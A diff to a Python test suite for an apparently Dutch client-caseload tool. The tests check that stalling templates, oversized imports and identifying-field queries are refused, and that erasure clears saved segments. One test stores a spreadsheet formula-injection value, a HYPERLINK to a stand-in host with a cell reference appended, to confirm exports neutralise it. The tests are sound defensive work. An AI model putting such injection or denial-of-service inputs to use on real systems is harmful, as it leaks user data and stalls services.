@@ -193,7 +193,8 @@ def build(inst: Installation) -> None:
         if line:
             inst.as_root(inst.localise(line))
     # the test's own limits, set by root in the root-owned config like any organisation's choice
-    inst.as_root(f"sed -i 's|^max_xlsx_unpacked_bytes = .*|max_xlsx_unpacked_bytes = 67108864|' {inst.config}")
+    for key, value in (("max_xlsx_unpacked_bytes", 64 * 1024 * 1024), ("max_rows", 1000)):
+        inst.as_root(f"sed -i 's|^{key} = .*|{key} = {value}|' {inst.config}")
     env = []
     for line in operations_block("CASELOAD_DB="):
         name, _, value = line.partition("=")
@@ -443,6 +444,14 @@ def test_the_owner_may_delete_their_template(inst):
     refused(inst, inst.as_person("coach", "template", "show", "weg"))
 
 
+def test_a_template_that_would_stall_the_daemon_is_refused_when_saved(inst, unchanged):
+    body = "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}"
+    started = time.monotonic()
+    refused(inst, inst.as_person("coach", "template", "add", "traag", "--channel", "email", "--subject", "x",
+                                 "--body", body), 2)
+    assert time.monotonic() - started < 10
+
+
 # --- mass actions ask ---------------------------------------------------------------------------
 
 def test_a_mass_action_without_an_answer_does_nothing(inst, only_audited):
@@ -454,10 +463,11 @@ def test_a_mass_action_without_an_answer_does_nothing(inst, only_audited):
 # --- aggregates (privacy) -----------------------------------------------------------------------
 
 def test_an_analyst_cannot_select_on_identifying_fields(inst, only_audited):
-    for expression in ('addiction_support = true and last_name != "Achternaam0"',
+    for expression in ('addiction_support = true and name != "Voornaam0 Achternaam0"',
                        'addiction_support = true and client_number != "K000"',
-                       'addiction_support = true and email != "k0@example.org"'):
-        refused(inst, inst.as_person("analyst", "segment", "count", expression))
+                       'addiction_support = true and naam != "Voornaam0 Achternaam0"'):
+        r = inst.as_person("analyst", "segment", "count", expression)
+        refused(inst, r, 1)  # the refusal of an identifying field, not an unknown one (2)
 
 
 def test_an_analyst_sees_no_client(inst, only_audited):
@@ -503,6 +513,42 @@ def test_client_forget_exists_for_an_admin_and_not_for_a_coach(inst):
     inst.ok("coach", "client", "optout", "K001", "--channel", "sms")
 
 
+def test_erasure_clears_the_client_from_a_coachs_saved_segment(inst):
+    inst.ok("admin", "client", "add", "client_number=WEG2", f"coach={inst.people['coach']}", "first_name=Wilhelmina",
+            "last_name=Vergetelheid")
+    inst.ok("coach", "segment", "save", "zonder", 'wellbeing <= 2 and name != "Wilhelmina Vergetelheid"',
+            "--description", "niet Wilhelmina Vergetelheid")
+    inst.ok("admin", "client", "forget", "WEG2", "--yes")
+    r = inst.ok("coach", "segment", "show", "zonder")
+    assert "Vergetelheid" not in r.stdout and "Wilhelmina" not in r.stdout, r.stdout
+
+
+def test_an_export_carries_no_live_formula(inst):
+    from openpyxl import load_workbook
+
+    inst.ok("coach", "client", "update", "K003", 'first_name==HYPERLINK("http://x.example/?"&B2,"klik")')
+    inst.ok("coach", "export", stdout="formula.csv")
+    inst.ok("coach", "export", "--format", "xlsx", stdout="formula.xlsx")
+    line = next(x for x in (inst.home("coach") / "formula.csv").read_text().splitlines() if x.startswith("K003"))
+    assert ",=HYPERLINK" not in line and "'=HYPERLINK" in line
+    sheet = load_workbook(inst.home("coach") / "formula.xlsx").active
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
+def test_a_port_in_use_gives_one_clear_message(inst):
+    import socket
+
+    with socket.socket() as held:
+        held.bind(("127.0.0.1", 0))
+        held.listen()
+        port = held.getsockname()[1]
+        r = subprocess.run([str(inst.wrapper), "daemon", "--listen", f"127.0.0.1:{port}", "--tick", "0.5"],
+                           capture_output=True, text=True, timeout=60, cwd="/", **inst.as_service())
+    assert r.returncode != 0
+    assert "Traceback" not in r.stderr and str(port) in r.stderr, r.stderr
+
+
 def test_a_closed_pipe_ends_quietly(inst):
     r = inst.as_person("coach", "client", "list", "--format", "csv", after=" | head -1")
     assert r.returncode == 0 and r.stdout.startswith("client_number"), r.stderr
@@ -523,6 +569,12 @@ def test_a_zip_bomb_is_refused_before_it_is_unpacked(inst, unchanged):
     started = time.monotonic()
     refused(inst, inst.as_person("lead", "import", "-", "--dry-run", stdin="bomb.xlsx"), 2)
     assert time.monotonic() - started < 10
+
+
+def test_more_rows_than_the_cap_are_refused(inst, unchanged):
+    inst.write_for("lead", "many.csv", b"client_number;first_name\n" + b"".join(
+        b"X%05d;Naam\n" % i for i in range(1500)))  # over the configured 1,000
+    refused(inst, inst.as_person("lead", "import", "-", stdin="many.csv"), 2)
 
 
 def test_mixed_encodings_are_refused(inst, unchanged):
